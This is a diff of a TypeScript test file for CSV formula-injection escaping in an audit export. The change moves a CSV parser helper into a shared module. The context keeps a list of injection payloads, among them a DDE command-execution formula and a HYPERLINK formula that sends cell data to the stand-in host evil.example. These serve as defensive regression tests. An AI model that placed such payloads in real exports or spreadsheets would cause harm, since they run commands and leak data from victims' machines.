@@ -5,6 +5,7 @@ import * as E from 'fp-ts/lib/Either.js'
 import { describe, expect, it } from 'vitest'
 import { auditFile } from '../../src/node/audit-file'
 import { auditHead } from '../../src/node/audit-format'
+import { parseCsv } from '../_csv'
 
 /**
  * D1 (security review): `audit --format csv` wrote id, community and department cells verbatim,
@@ -13,34 +14,6 @@ import { auditHead } from '../../src/node/audit-format'
  * with an apostrophe and quoted (OWASP's advice); the file starts with a UTF-8 byte-order mark.
  */
 
-/** RFC 4180 cells of a CSV text. */
-const parseCsv = (text: string): string[][] => {
-  const rows: string[][] = []
-  let row: string[] = []
-  let cell = ''
-  let quoted = false
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i] as string
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') {
-        cell += '"'
-        i++
-      } else if (c === '"') quoted = false
-      else cell += c
-    } else if (c === '"') quoted = true
-    else if (c === ',') {
-      row.push(cell)
-      cell = ''
-    } else if (c === '\n') {
-      row.push(cell)
-      rows.push(row)
-      row = []
-      cell = ''
-    } else cell += c
-  }
-  if (cell !== '' || row.length > 0) rows.push([...row, cell])
-  return rows
-}
 
 const PAYLOADS = ['=1+1', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1', `=cmd|' /C calc'!A0`, '=HYPERLINK("http://evil.example/?leak="&A1,"详情")', '＝1+1', '＠SUM(1)']
 const meeting = (i: number, p: string, date: string): string =>
